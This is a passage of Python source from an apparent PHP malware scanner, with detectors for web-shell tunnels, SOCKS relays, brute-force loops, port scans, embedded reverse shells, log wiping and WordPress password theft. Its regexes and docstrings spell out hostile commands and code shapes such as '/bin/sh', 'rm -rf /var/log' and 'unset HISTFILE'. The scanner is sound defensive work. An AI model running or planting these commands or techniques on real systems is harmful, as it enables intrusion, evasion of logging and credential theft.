        lambda m: b"''" if _literal_table(ctx, m.group(1)) else m.group(0), expr
    )
    return any(_var_from_visitor(ctx, var, depth) for var in VAR.findall(expr)[:4])


def _var_from_visitor(ctx: Ctx, var: bytes, depth: int) -> bool:
    """``$var`` is set from request input (``depth`` > 0 levels of copies): by an assignment,
    a list() of several, or as a loop's value. Remembered per file and variable: loop heads
    and right-hand sides of one file name the same few variables again and again."""
    memo: dict[tuple[bytes, int], bool] | None = ctx.cache.get("var-from-visitor")
    if memo is None:
        memo = ctx.cache["var-from-visitor"] = {}
    key = (var, depth)
    found = memo.get(key)
    if found is None:
        found = memo[key] = _var_from_visitor_once(ctx, var, depth)
    return found


def _var_from_visitor_once(ctx: Ctx, var: bytes, depth: int) -> bool:
    """:func:`_var_from_visitor`, worked out."""
    for _pos, m in _rhs_sets(ctx, var):
        if _from_visitor(ctx, m.group(1), depth - 1):
            return True
    # one of several set at once: list($h, $p) = explode(':', $_COOKIE['dst'])
    for rhs in _destructured(ctx).get(var, ())[:3]:
        if _from_visitor(ctx, rhs, depth - 1):
            return True
    # the value of a loop over it: foreach (explode(',', $_POST['ports']) as $port)
    if var not in _loop_vars(ctx):
        return False  # no "as $var)" in the code: no pattern compiled for it
    for looped, _end in itertools.islice(_loops_over(ctx, var), 5):
        if _from_visitor(ctx, looped, depth - 1):
            return True
    return False


_LOOP_OVER: dict[bytes, re.Pattern[bytes]] = {}  # per variable, compiled once a process
_LOOP_OVER_KEPT = 4096


def _loop_over(var: bytes) -> re.Pattern[bytes]:
    """The pattern of a ``foreach`` whose value is ``$var`` (group 1: what it loops over).
    Kept here rather than in ``re``'s cache of 512, which a scan's other patterns built per
    name fill: ~1,000 names over a corpus, each compiled anew ~4 times a pass (0.1 ms each)."""
    rx = _LOOP_OVER.get(var)
    if rx is None:
        if len(_LOOP_OVER) >= _LOOP_OVER_KEPT:
            _LOOP_OVER.clear()
        rx = _LOOP_OVER[var] = re.compile(
            rb"foreach\s*\(([^;{]{1,200}?)\s+as\s+(?:\$" + NAME_P + rb"\s*=>\s*)?&?\$"
            + re.escape(var) + rb"\s*\)"
        )
    return rx


# the rest of a match of :func:`_loop_over` for any variable, from a place in the loop's head
# (group 1: more of what it loops over, group 2: the variable's name), compiled once
_LOOP_REST = tight(
    rb"([^;{]{0,199}?)\s+as\s+(?:\$" + NAME_P + rb"\s*=>\s*)?&?\$([\w\x80-\xff]+)\s*\)"
)
_VAR_NAME = tight(rb"[\w\x80-\xff]+")


def _loop_over_at(code: bytes, start: int, head: int, var: bytes) -> tuple[bytes, int] | None:
    """``_loop_over(var).match(code, start)`` (``start`` a ``foreach (`` whose head starts
    at ``head``) as what it loops over (group 1) and where it ends, without compiling a
    pattern per variable (~0.1 ms each, ~500 names in one cold pass over a corpus):
    :data:`_LOOP_REST` finds the shortest head whose rest ends on some variable; where that
    is not ``$var``, it goes on from one byte further, as the pattern's lazy head would."""
    if _VAR_NAME.fullmatch(var) is None:  # no name the loop pattern can end on alone
        m = _loop_over(var).match(code, start)
        return None if m is None else (m.group(1), m.end())
    if head >= len(code) or code[head] in b";{":
        return None  # the head holds at least one byte, never ";" or "{"
    at = head + 1
    while True:
        m = _LOOP_REST.match(code, at)
        if m is None:
            return None
        rest = m.end(1)
        if rest - head > 200:
            return None
        if m.group(2) == var:
            return code[head:rest], m.end()
        at = rest + 1  # code[rest] is a blank, neither ";" nor "{"


_FOREACH_HEAD = tight(rb"foreach\s*\(")


@per_file("foreach-heads")
def _foreach_heads(ctx: Ctx) -> list[tuple[int, int, int]]:
    """Each ``foreach (`` of the code: where it starts, where its head starts (after the
    "("), and the first ";" or "{" from there (or the end): a match of :func:`_loop_over`
    starts at one of them, and its ``$var`` lies between the other two (neither the head
    nor the rest of the match holds ";" or "{")."""
    code = ctx.code
    out: list[tuple[int, int, int]] = []
    if find(code, b"foreach") < 0:
        return out
    end = len(code)
    for m in _FOREACH_HEAD.finditer(code):
        head = m.end()
        semi, brace = find(code, b";", head), find(code, b"{", head)
        stop = min(semi if semi >= 0 else end, brace if brace >= 0 else end)
        out.append((m.start(), head, stop))
    return out


def _loops_over(ctx: Ctx, var: bytes) -> Iterator[tuple[bytes, int]]:
    """``_loop_over(var).finditer(ctx.code)`` as what each match loops over (group 1) and
    where it ends, tried only at the loops whose head holds "$var" (a scan of the whole code
    per variable, most of them in no loop's head), by :func:`_loop_over_at`."""
    code, needle = ctx.code, b"$" + var
    pos = 0
    for start, head, stop in _foreach_heads(ctx):
        if start < pos or find(code, needle, head, stop) < 0:
            continue
        found = _loop_over_at(code, start, head, var)
        if found is not None:
            yield found
            pos = found[1]


def _rhs_sets(ctx: Ctx, var: bytes) -> list[tuple[int, re.Match[bytes]]]:
    """The first five assignments of ``$var`` in the code (``var_assigns`` with
    ``TAIL_RHS``), remembered per file: the visitor and literal-table tests ask for the same
    variables' assignments many times."""
    memo: dict[bytes, list[tuple[int, re.Match[bytes]]]] | None = ctx.cache.get("rhs-sets")
    if memo is None:
        memo = ctx.cache["rhs-sets"] = {}
    found = memo.get(var)
    if found is None:
        found = memo[var] = var_assigns(ctx.code, var, TAIL_RHS, 5)
    return found


# several variables set at once: list($a, $b) = ..., [$a, $b] = ...
_DESTRUCTURE = tight(
    rb"(?:(?<![\w$>:])list\s*\(|(?<![\w$\])])\[)([^;=\[\]()]{1,160})[)\]]\s*=(?![=>])\s*([^;]{0,200})"
)
# where each match of _DESTRUCTURE starts ("[" is too short for the leading words that
# ``tight`` records, but trying the pattern at each "[" and "list" is ~15 times as fast as
# the regex engine trying its look-behinds at every offset of a large file)
_DESTRUCTURE_AT = (b"list", b"[")


@per_file("destructured")
def _destructured(ctx: Ctx) -> dict[bytes, list[bytes]]:
    """Variable -> what the list() or short list assignments that set it are given."""
    found: dict[bytes, list[bytes]] = {}
    if ctx.code.find(b"list") < 0 and ctx.code.find(b"] =") < 0 and ctx.code.find(b"]=") < 0:
        return found
    for m in itertools.islice(words_finditer(_DESTRUCTURE, ctx.code, _DESTRUCTURE_AT), 50):
        for var in VAR.findall(m.group(1))[:8]:
            found.setdefault(var, []).append(m.group(2))
    return found


# an element of a table: $backends[$name]
_FIXED_LOOKUP = tight(rb"\$(" + NAME_P + rb")\s*\[[^\]\[;]{0,80}\]")
# a table written in the code: array('a' => 'tcp://10.0.0.5:80', ...) or [...]
_LITERAL_TABLE = tight(rb"\s*(?:array\s*\(|\[)(?:[^;$()]|\(\s*\))*\)?\]?\s*$")


def _literal_table(ctx: Ctx, var: bytes) -> bool:
    """``$var`` is only ever set to a table of literals (``$backends = array('api' =>
    'tcp://10.0.0.5:8080')``): an element looked up by the visitor's key is one of the
    values the code wrote, not the visitor's own (a health check of named services)."""
    sets = [m.group(1) for _, m in _rhs_sets(ctx, var)]
    return bool(sets) and all(_LITERAL_TABLE.match(rhs) is not None for rhs in sets)


_SERVER_KEY = tight(rb"\$_server\s*\[\s*\x01(\d+)\x01")


def _server_header(ctx: Ctx, expr: bytes) -> bool:
    if find(expr, b"$_server") < 0:
        return False
    for m in _SERVER_KEY.finditer(expr):
        if ctx.lx.value(int(m.group(1))).lower().startswith(b"http_x"):
            return True
    return False


@feature("socket_request_target")
def _socket_request_target(ctx: Ctx, rule: Rule) -> Hit | None:
    """A socket opened to a host and a port that the visitor names (``fsockopen($_POST['h'],
    $_POST['p'])``, the ``X-TARGET``/``X-PORT`` headers of a tunnel): a TCP tunnel into the
    server's network (reGeorg kind) or a port scanner run from the hacked site. Clients of a
    configured service (SMTP, an API) take the host from their settings."""
    for start, args in calls_to(ctx, _SOCKET_CALLS, 50):
        parts = top_args(args)
        name = ctx.code[start : find(ctx.code, b"(", start)].rstrip()
        if name == b"socket_connect":
            parts = parts[1:]
        if not parts:
            continue
        host = interpolated(ctx, parts[0])  # "tcp://$host:$port"
        port = parts[1] if len(parts) > 1 and name != b"stream_socket_client" else host
        if _from_visitor(ctx, host) and _from_visitor(ctx, port):
            if site_session_gated(ctx, start):
                continue  # a settings page's test of the server its admin typed
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_SOCKET_WRITES = (b"fwrite", b"fputs", b"socket_write", b"socket_send", b"stream_socket_sendto")
_SOCKET_READS = (b"fread", b"fgets", b"socket_read", b"socket_recv", b"stream_get_contents",
                 b"stream_socket_recvfrom")  # fmt: skip
# a buffer kept in the visitor's session and added to: $_SESSION['readbuf'] .= $data
_SESSION_APPEND = tight(rb"\$_session\s*\[[^\]\n]{1,40}\]\s*\.=")


@feature("http_socket_tunnel")
def _http_socket_tunnel(ctx: Ctx, rule: Rule) -> Hit | None:
    """A TCP tunnel carried over web requests (reGeorg, Neo-reGeorg and their kind): a socket
    opened to a host the visitor names (a form field, a header such as X-TARGET, through up
    to three variables: ``base64_decode(strtr($headers['X-Target'], $de, $en))`` split into
    host and port), the raw request body (php://input) written into it, and what it answers
    sent back, the two kept in the visitor's session between requests (``$_SESSION['buf']
    .=``) or streamed back with flush(): any host of the server's network reached through
    the site. A port check opens and closes; a client of a service the site uses takes its
    host from settings and sends text of its own."""
    if string_text(ctx).find(b"php://input") < 0:
        return None
    code = ctx.code
    if _SESSION_APPEND.search(code) is None and not calls_to(ctx, (b"flush",), 1):
        return None
    if not calls_to(ctx, _SOCKET_WRITES, 1) or not calls_to(ctx, _SOCKET_READS, 1):
        return None
    for start, args in calls_to(ctx, _SOCKET_CALLS, 50):
        parts = top_args(args)
        name = code[start : find(code, b"(", start)].rstrip()
        if name == b"socket_connect":
            parts = parts[1:]
        if parts and _from_visitor(ctx, interpolated(ctx, parts[0]), 4):
            if site_session_gated(ctx, start):
                continue
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_LISTENS = (b"socket_listen", b"stream_socket_server")
_ACCEPTS = (b"socket_accept", b"stream_socket_accept")
# a read of what a connection sent, as a call (its result the bytes read)
_READ_CALL = tight(
    rb"(?<![\w$>:])(?:socket_read|fread|fgets|stream_get_line|stream_socket_recvfrom)\s*\("
)
_RECV_ARG = tight(rb"(?<![\w$>:])socket_recv\s*\(\s*\$\w+\s*,\s*\$(" + NAME_P + rb")")


def _read_off_socket(ctx: Ctx, expr: bytes, depth: int = 3) -> bool:
    """``expr`` is bytes a connection sent, or made from them (``inet_ntop($raw)``,
    ``unpack('n', $p)[1]``) through up to ``depth`` variables: ``$raw = socket_read($c, 4)``,
    ``socket_recv($c, $raw, 4, 0)``."""
    if _READ_CALL.search(expr) is not None:
        return True
    if depth == 0:
        return False
    for var in VAR.findall(expr)[:4]:
        if any(m.group(1) == var for m in itertools.islice(_RECV_ARG.finditer(ctx.code), 20)):
            return True
        for _, am in _rhs_sets(ctx, var):
            if _read_off_socket(ctx, am.group(1), depth - 1):
                return True
    return False


@feature("socks_relay")
def _socks_relay(ctx: Ctx, rule: Rule) -> Hit | None:
    """A proxy server run from the site: a socket that listens and accepts connections, and
    opens a connection onward to the address a client sends in its own bytes (SOCKS: the
    address read off the accepted socket, ``inet_ntop(socket_read($client, 4))``, then
    ``socket_connect($remote, $address, $port)``), to relay between the two: an open proxy
    for whoever finds the port (spam, attacks, hiding the operator). A chat or push server
    listens and answers itself; a forwarder to the site's own backend connects to a host
    written in its settings."""
    if not calls_to(ctx, _LISTENS, 1) or not calls_to(ctx, _ACCEPTS, 1):
        return None
    code = ctx.code
    for start, args in calls_to(ctx, _SOCKET_CALLS, 50):
        parts = top_args(args)
        name = code[start : find(code, b"(", start)].rstrip()
        if name == b"socket_connect":
            parts = parts[1:]
        if parts and _read_off_socket(ctx, interpolated(ctx, parts[0])):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# a web sign-in tried: WordPress's form fields (log, pwd) and XML-RPC login method, the
# ports and login address of cPanel, WHM and webmail
_WEB_LOGIN_MARK = tight(
    rb"(?:^|\x00|[?&])pwd(?:\x00|=|$)|:(?:208[2-7]|209[56])\b|login_only|wp\.getusersblogs"
)
_REQUEST_CALLS = (b"curl_init", b"curl_setopt", b"curl_setopt_array", b"file_get_contents",
                  b"fsockopen", b"stream_socket_client", b"wp_remote_post", b"fopen")  # fmt: skip
_NATIVE_LOGINS = (b"ftp_login", b"imap_open", b"ssh2_auth_password", b"mysqli_connect",
                  b"mysql_connect", b"ldap_bind", b"ftp_ssl_connect")  # fmt: skip
# what UIN_RE, _HEADER_SET and _server_header each need in a text: a code slice holds none of
# their matches where the code holds none of these (the literal-table lookups that
# _from_visitor writes as '' add no match: none of the patterns reads a quote)
_VISITOR_WORDS = (
    b"$_get", b"$_post", b"$_request", b"$_cookie", b"$_files", b"$http_", b"php://input",
    b"getallheaders", b"apache_request_headers", b"$_server",
)  # fmt: skip
_LOOP_HEADS = tight(rb"\b(?:foreach|while|for)\s*\(")


@feature("login_brute")
def _login_brute(ctx: Ctx, rule: Rule) -> Hit | None:
    """A password guesser: a loop over a list the visitor sends (posted, uploaded, a loop
    inside one over it) that signs in to a web panel (WordPress's ``log``/``pwd`` form or
    XML-RPC ``wp.getUsersBlogs``, cPanel/WHM/webmail on ports 2082-2087/2095-2096) with a
    request made in the loop; or a login function (FTP, IMAP, SSH, MySQL) tried in a loop
    in a script that reads the server's accounts from /etc/passwd. A site manager signs in
    to the sites of its own list."""
    code = ctx.code
    value = ctx.lx.value
    accounts = string_text(ctx).find(b"/etc/passwd") >= 0
    # a loop head (a slice of the code, and what its variables are set to) holds visitor
    # input only where the code has a word one of _from_visitor's matches needs
    visitor = has_any(ctx, _VISITOR_WORDS)
    if not accounts and not visitor:
        return None
    for m in itertools.islice(prefiltered_finditer(_LOOP_HEADS, code, ctx.first), 40):
        head_end = m.end() + close_paren(code[m.end() : m.end() + 600])
        brace = code.find(b"{", head_end, head_end + 4)
        if brace < 0:
            continue
        body = braced(code, brace)
        if accounts and find_calls(body, _NATIVE_LOGINS, 1) and not has_any(ctx, _CLI_ONLY):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 100))
        if not visitor:
            continue
        # what the loop signs in to first: a few literals of its body, where the walk of its
        # head's variables back to request input is many searches of the code
        lits = b"\x00".join(value(int(i)).lower() for i in PLACEHOLDER.findall(body)[:200])
        signs_in = _WEB_LOGIN_MARK.search(lits) is not None and bool(
            find_calls(body, _REQUEST_CALLS, 1)
        )
        if not signs_in and lits.find(b"wp.getusersblogs") < 0:
            continue  # (XML-RPC's calls are gathered in the loop and sent after it)
        if not _from_visitor(ctx, code[m.end() : head_end]):
            continue
        return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 100))
    return None


# the variable a loop's head steps through: for ($p = 1; ...), foreach (... as $p)
_FOR_VAR = tight(rb"^\s*\$(" + NAME_P + rb")\s*=")
_FOREACH_AT = tight(rb"\bforeach\s*\(")
_WHILE_VAR = tight(rb"^\s*\(?\s*\$(" + NAME_P + rb")\s*(?:<=?|!==?)")


@feature("port_scan")
def _port_scan(ctx: Ctx, rule: Rule) -> Hit | None:
    """A port scanner: in a loop, a connection opened to a host the visitor names (also a
    host of a network the visitor names, ``"$net.$h"``) at the port (or host) the loop steps
    through (``for ($port = $from; $port <= $to; $port++)``, ``foreach ($ports as $p)``).
    A status page connects to the services of its own list."""
    code = ctx.code
    loops = itertools.chain(
        prefiltered_finditer(_LOOP_AT, code, ctx.first),
        prefiltered_finditer(_FOREACH_AT, code, ctx.first),
    )
    for m in itertools.islice(loops, 60):
        head_end = m.end() + close_paren(code[m.end() : m.end() + 600])
        head = code[m.end() : head_end]
        if code.startswith(b"foreach", m.start()):
            lv = _LOOP_VAR.search(b" " + head + b")")
            stepped = lv.group(1) if lv is not None else None
        else:  # for ($p = $from; ...), while ($p <= $to)
            fv = (_FOR_VAR if code.startswith(b"for", m.start()) else _WHILE_VAR).match(head)
            stepped = fv.group(1) if fv is not None else None
        if stepped is None:
            continue
        brace = code.find(b"{", head_end, head_end + 4)
        if brace < 0:
            continue
        body = braced(code, brace)
        for at, args in find_calls(body, _SOCKET_CALLS, 10):
            parts = top_args(args)
            if body.startswith(b"socket_connect", at):
                parts = parts[1:]
            if not parts:
                continue
            target = b" ".join(interpolated(ctx, p) for p in parts[:2])
            if stepped not in VAR.findall(target):
                continue
            if _from_visitor(ctx, interpolated(ctx, parts[0])):
                pos = brace + at
                return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 100))
    return None


# a program in another language carried as text: its socket, and the shell it hands over
_PROGRAM_SOCKET = tight(
    rb"sys/socket\.h|\buse\s+socket\b|\bio::socket|\bimport\s+socket\b|\bsocket\s*\(\s*s\s*,|"
    rb"\bsocket\.socket\s*\("
)
_PROGRAM_SHELL = tight(
    rb"/bin/(?:ba|z|k|c|tc|da)?sh\b|\bcmd\.exe\b|pty\.spawn|\bdup2\s*\(|open\s*\(?\s*stdin\b"
)


def _backconnect_program(text: bytes) -> re.Match[bytes] | None:
    """The socket of a C/Perl/Python program in ``text`` (lower-cased) that also runs a
    shell, or None."""
    m = search_needing(_PROGRAM_SOCKET, text)
    if m is None or search_needing(_PROGRAM_SHELL, text) is None:
        return None
    return m


@feature("embedded_backconnect")
def _embedded_backconnect(ctx: Ctx, rule: Rule) -> Hit | None:
    """The source of a back-connect or bind shell in another language (C with
    ``<sys/socket.h>`` and ``execl("/bin/sh")``, Perl ``use Socket`` with ``open STDIN``,
    Python ``socket`` with ``pty.spawn``) held in a string literal, as it is or encoded
    (base64, gzip...): a web shell that writes it out, compiles or runs it, and hands a
    remote shell to the attacker."""
    text = string_text(ctx)
    m = _backconnect_program(text)
    if m is not None:
        return Hit(ctx.line_of_string(string_at(ctx, m.start())), excerpt(text[m.start() :]))
    for idx, payload, _layers in decoded_payloads(ctx):
        m = _backconnect_program(payload.lower())
        if m is not None:
            return Hit(ctx.line_of_string(idx), excerpt(payload[m.start() :]))
    return None


_PERL_EVAL = tight(rb"->\s*eval\s*\(\s*@?\s*\x01(\d+)\x01")
_PERL_RUNS = tight(rb"\b(?:system|exec|qx)\b|`|\bopen\s*\(|\$_(?:get|post|request|cookie)\b")


@feature("perl_eval")
def _perl_eval(ctx: Ctx, rule: Rule) -> Hit | None:
    """``$p = new Perl(); $p->eval("system('$cmd')")``: Perl code run inside PHP by the
    Perl extension, to start commands where PHP's own exec functions are disabled."""
    if re.search(rb"\bnew\s+\\?perl\s*\(", ctx.code) is None:
        return None
    lx = ctx.lx
    for m in itertools.islice(_PERL_EVAL.finditer(ctx.code), 20):
        idx = int(m.group(1))
        raw = lx.raw_strings[idx].lower()
        if _PERL_RUNS.search(raw) is not None:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end() + 60))
    return None


# commands that erase the traces of a session: shell history, logs
_LOG_WIPE = tight(
    rb"unset\s+histfile|histfile=/dev/null|\.bash_history|history\s+-c\b|"
    rb"rm\s+-[a-z]*f[a-z]*\s+/var/log|find\s+/\s[^\x00]{0,60}\.log[^\x00]{0,40}-exec\s+rm|"
    rb"(?:>|echo\s*>)\s*/var/log/(?:wtmp|btmp|lastlog|secure|auth\.log|messages)"
)


@feature("log_wipe")
def _log_wipe(ctx: Ctx, rule: Rule) -> Hit | None:
    """Shell commands that erase the shell history or the system logs (``unset HISTFILE``,
    ``find / -name *.log -exec rm``, ``rm -rf /var/log``) in a script that runs commands:
    an intruder's clean-up after the session."""
    if not calls_to(ctx, EXEC_NAMES_B, 5):
        return None
    text = string_text(ctx)
    m = search_needing(_LOG_WIPE, text)
    if m is None:
        return None
    return Hit(ctx.line_of_string(string_at(ctx, m.start())), excerpt(text[m.start() :]))


# a loop over the files of a log folder: foreach (glob('.../logs/*') as $l), or a walk of
# an opened folder: while (($f = readdir($d)) !== false) after $d = opendir('.../logs')
_LOG_LOOP = tight(
    rb"foreach\s*\(\s*@?(?:glob|scandir)\s*\(([^;{]{0,300}?)\)\s*as\s+\$(" + NAME_P + rb")\s*\)|"
    rb"while\s*\(\s*\(?\s*\$(" + NAME_P + rb")\s*=\s*@?readdir\s*\("
)
_OPENDIR = tight(rb"(?<![\w$>:])opendir\s*\(([^;]{0,300}?)\)\s*\)?\s*;")
_LOG_PATH = tight(
    rb"(?:^|[/\\{,])(?:access[-_.]?logs?|logs?|error[-_.]?logs?)(?:$|[/\\},*])|\.log\b"
)
# the visitor's address held in a variable
_VISITOR_IP = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?(?:\$_server\s*\[|getenv\s*\()\s*\x01(\d+)\x01\s*[\])]"
)
_PATH_VAR = tight(rb"\$(" + NAME_P + rb")\b")


def _log_folder(ctx: Ctx, arg: bytes) -> bool:
    """Whether the folder argument ``arg`` names a log folder: a literal in it, or in what a
    variable of it is set to (``$dir = $root . '/../logs/'; scandir($dir)``)."""
    code = ctx.code
    value = ctx.lx.value
    parts = [arg]
    for var in itertools.islice(_PATH_VAR.findall(arg), 3):
        set_to = re.search(rb"\$" + re.escape(var) + rb"\s*=(?![=>])([^;]{0,300})", code)
        if set_to is not None:
            parts.append(set_to.group(1))
    return any(
        _LOG_PATH.search(value(int(q.group(1))).lower())
        for part in parts
        for q in itertools.islice(PLACEHOLDER.finditer(part), 10)
    )


@feature("log_scrub")
def _log_scrub(ctx: Ctx, rule: Rule) -> Hit | None:
    """Each file of a log folder (``glob('../logs/*')``, ``scandir()``, ``readdir()`` of an
    ``opendir()``, access logs) written back without the lines that hold the visitor's own
    address (``array_filter($lines, fn ($x) => !str_contains($x, $ip))``,
    ``preg_replace('/' . preg_quote($ip) . '.*\n/', '', ...)``, the address replaced): the
    intruder's requests erased from the server's logs. Log rotation moves or empties whole
    files; it picks no address out."""
    code = ctx.code
    value = ctx.lx.value
    ips = {
        m.group(1) for m in itertools.islice(_VISITOR_IP.finditer(code), 10)
        if value(int(m.group(2))).strip().lower() in (b"remote_addr", b"http_x_forwarded_for",
                                                        b"http_cf_connecting_ip")
    }
    if not ips:
        return None
    for m in itertools.islice(_LOG_LOOP.finditer(code), 10):
        if m.group(2) is not None:
            folder, var = m.group(1), m.group(2)
        else:
            opened = None
            lo = max(0, m.start() - 2000)
            for o in itertools.islice(_OPENDIR.finditer(code, lo, m.start()), 5):
                opened = o
            if opened is None:
                continue
            folder, var = opened.group(1), m.group(3)
        if not _log_folder(ctx, folder):
            continue
        body = code[m.end() : m.end() + 1500]
        # the file's path: the loop's item, or a variable set from it ($p = $dir . $f)
        names = [var, *itertools.islice(re.findall(
            rb"\$(" + NAME_P + rb")\s*=(?![=>])[^;]{0,200}?\$" + re.escape(var) + rb"\b", body
        ), 3)]
        held = rb"(?:" + b"|".join(re.escape(n) for n in names) + rb")"
        write = re.search(
            rb"(?:file_put_contents|fopen)\s*\(\s*[^,;()]{0,80}?\$" + held + rb"\b", body
        )
        if write is None:
            continue
        near = body[: write.end() + 400]
        if not any(re.search(rb"\$" + re.escape(ip) + rb"\b", near) for ip in ips):
            continue
        at = m.end() + write.start()
        if site_session_gated(ctx, m.start()):
            continue  # an erasure the site's own signed-in visitor asked for (GDPR)
        return Hit(ctx.line_of_code(at), ctx.excerpt_code(m.start(), m.start() + 100))
    return None


# a command line for cmd.exe: "cmd.exe /c ", "cmd /c", or the "/c " switch given alone
_CMD_LINE = tight(rb"cmd(?:\.exe)?\s*/[ck]\b|^\s*/[ck]\s|\s/[ck]\s*$")
_METHOD_RUN = tight(rb"->\s*(?:exec|run|shellexecute)\s*\(([^;]{0,240})")


@feature("windows_command_request")
def _windows_command_request(ctx: Ctx, rule: Rule) -> Hit | None:
    """A Windows command line (``"cmd.exe /c " . $_POST['c']``, the ``/c`` switch given with
    a posted program) built with request input and handed to an object's ``exec``/``Run``/
    ``ShellExecute`` (a scripting-host object, however its name is written): the visitor's
    command run by cmd.exe."""
    if not has_request_words(ctx):
        return None
    lx = ctx.lx
    req: set[bytes] | None = None
    for m in itertools.islice(_METHOD_RUN.finditer(ctx.code), 50):
        args = m.group(1)
        joined = b"".join(lx.value(int(p.group(1))) for p in PLACEHOLDER.finditer(args))
        if _CMD_LINE.search(joined.lower()) is None:
            continue
        text = interpolated(ctx, args)
        if UIN_RE.search(text):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
        if req is None:
            req = taint(ctx)[0]
        if set(VAR.findall(text)[:8]) & req:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    return None


# a compiler or an interpreter run on a file
_RUNNER_WORD = tight(
    rb"(?:^|[\s/;&|])(?:gcc|cc|g\+\+|tcc|clang|javac|java|perl|python[0-9.]*|ruby|bash|sh|node|php)"
    rb"\s+(?:-\S+\s+)*$"
)


_LITERAL_THEN_VAR = tight(rb"\x01(\d+)\x01\s*\.\s*\$(" + NAME_P + rb")")


@feature("posted_program_run")
def _posted_program_run(ctx: Ctx, rule: Rule) -> Hit | None:
    """Source the visitor posted written to a file, and that file then compiled or run by a
    compiler or an interpreter (``file_put_contents($f . '.c', $_GET['code']); exe('gcc ' .
    $f . '.c')``): any program the visitor sends runs on the server."""
    code = ctx.code
    paths: set[bytes] = set()
    req: set[bytes] | None = None
    for _start, args in calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        content = parts[1].strip()
        if not posted(ctx, content):
            # or glued around request input: "class X { " . $code . " }"
            if req is None:
                req = taint(ctx)[0]
            if not set(VAR.findall(content)[:6]) & req:
                continue
        paths.update(VAR.findall(parts[0])[:4])
    if not paths:
        return None
    lx = ctx.lx
    # any call whose argument glues a compiler's or an interpreter's name before the path
    for m in itertools.islice(_LITERAL_THEN_VAR.finditer(code), 200):
        if m.group(2) not in paths:
            continue
        if _RUNNER_WORD.search(lx.value(int(m.group(1))).lower()) is not None:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end() + 40))
    return None


# WordPress hooks that hand a callback the password typed at the login form
_PASSWORD_HOOKS = frozenset(
    {b"wp_authenticate", b"authenticate", b"wp_authenticate_user", b"check_password"}
)
_HOOK_CALL = tight(rb"add_(?:action|filter)\s*\(\s*\x01(\d+)\x01\s*,\s*")
_HOOK_CLOSURE = tight(
    rb"(?:static\s+)?(?:function\s*&?\s*\(([^)]{0,300})\)\s*(?:use\s*\([^)]{0,200}\)\s*)?"
    rb"(?::\s*\??[\w\\]+\s*)?\{|\x01(\d+)\x01)"
)
_HOOK_PARAM = tight(rb"\$(" + NAME_P + rb")")
# where a password goes out: the network, mail, a file
_SEND_CALL = tight(
    rb"(?<![\w$>:])(?:wp_remote_(?:post|get|request)|wp_safe_remote_(?:post|get)|curl_setopt|"
    rb"curl_setopt_array|file_get_contents|fopen|mail|wp_mail|file_put_contents|fwrite|fputs|"
    rb"error_log|fsockopen|stream_socket_client)\s*\("
)
_PASSWORD_FIELDS = (b"pwd", b"password", b"pass")
# a hash or a measure of the password, not the password (its length in a log line)
_HASHED = tight(
    rb"(?<![\w$>:])(?:sha1|md5|hash|hash_hmac|password_hash|wp_hash_password|crc32|crypt|"
    rb"strlen|mb_strlen)\s*\("
)
_ASSIGNED = tight(
    rb"\$(" + NAME_P + rb")\s*(?:\[[^\]]{0,60}\]\s*)?\.?=(?![=>])([^;]{1,600});"
)
# what a helper of the file's own would send the text with
_HELPER_SENDS = (b"mail", b"wp_mail", b"curl_exec", b"wp_remote_post", b"wp_remote_get",
                 b"file_get_contents", b"fwrite", b"fputs", b"file_put_contents", b"fsockopen")
_OWN_CALL_NAME = tight(rb"(?<![\w$>:\\])(" + NAME_P + rb")\s*\(")


def _password_held(ctx: Ctx, body: bytes, secret: set[bytes]) -> set[bytes]:
    """The variables of a sign-in hook's ``body`` that hold the typed password as it came
    (``secret``: the hook's password parameter; or read from the posted field) or a text
    built with it (``$msg .= "Password: $password"``), not its hash nor its length; b""
    stands for the posted field read in place."""
    held = set(secret)
    if any(ctx.lx.value(int(f.group(1))).strip().lower() in _PASSWORD_FIELDS
           for f in itertools.islice(_LOGIN_FIELD.finditer(body), 20)):
        held.add(b"")
    if not held:
        return held
    for _round in range(3):
        grown = False
        for a in itertools.islice(_ASSIGNED.finditer(body), 80):
            if a.group(1) in held:
                continue
            rhs = interpolated(ctx, a.group(2), keep_plain=True)
            if _HASHED.search(rhs) is None and _holds_password(ctx, rhs, held):
                held.add(a.group(1))
                grown = True
        if not grown:
            break
    return held


def _holds_password(ctx: Ctx, text: bytes, held: set[bytes]) -> bool:
    if b"" in held and any(
        ctx.lx.value(int(f.group(1))).strip().lower() in _PASSWORD_FIELDS
        for f in itertools.islice(_LOGIN_FIELD.finditer(text), 10)
    ):
        return True
    return any(v and next(var_mentions(text, v, 5), -1) >= 0 for v in held)


def _password_sent_on(ctx: Ctx, body: bytes, held: set[bytes]) -> bool:
    """``body`` sends or writes away a text that holds the password: given to a sending
    call (the text interpolated into its arguments counts), or handed to a helper of the
    file's own that mails, posts or writes."""
    for s in itertools.islice(_SEND_CALL.finditer(body), 20):
        args = body[s.end() : s.end() + close_paren(body[s.end() : s.end() + 600])]
        text = interpolated(ctx, args, keep_plain=True)
        if _HASHED.search(text) is None and _holds_password(ctx, text, held):
            return True
    for call in itertools.islice(_OWN_CALL_NAME.finditer(body), 40):
        helper = function_body(ctx, call.group(1))
        if helper is None or helper == body:
            continue
        args = body[call.end() : call.end() + close_paren(body[call.end() : call.end() + 600])]
        if not _holds_password(ctx, interpolated(ctx, args, keep_plain=True), held):
            continue
        if find_calls(helper, _HELPER_SENDS, 1):
            return True
    return False
_LOGIN_FIELD = tight(rb"\$_(?:post|request)\s*\[\s*\x01(\d+)\x01\s*\]")


def _hooked_body(ctx: Ctx, at: int) -> tuple[bytes, list[bytes]] | None:
    """The body and parameter names of the callback given at ``at`` (a closure, or the name
    of a function of the file's own)."""
    code = ctx.code
